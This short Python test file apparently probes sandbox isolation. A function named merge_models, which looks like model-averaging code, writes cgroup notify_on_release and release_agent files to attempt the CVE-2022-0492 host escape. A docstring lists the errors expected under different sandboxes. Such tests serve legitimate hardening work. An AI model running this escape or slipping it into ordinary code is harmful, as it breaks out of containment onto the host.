"""Makes a cgroup whose end has the host run a program (CVE-2022-0492).

Expected: run runtime_error (EROFS/EACCES/EPERM)
Bubblewrap: run runtime_error (ENOENT)
Bubblewrap alone: run runtime_error (ENOENT)
"""

from pathlib import Path


def merge_models(model_dict, device):
    folder = min(path for path in Path("/sys/fs/cgroup").iterdir() if path.is_dir())
    (folder / "x").mkdir()
    (folder / "x" / "notify_on_release").write_text("1")
    (folder / "release_agent").write_text("/tmp/x")
    return sum(model_dict.values()) / len(model_dict)
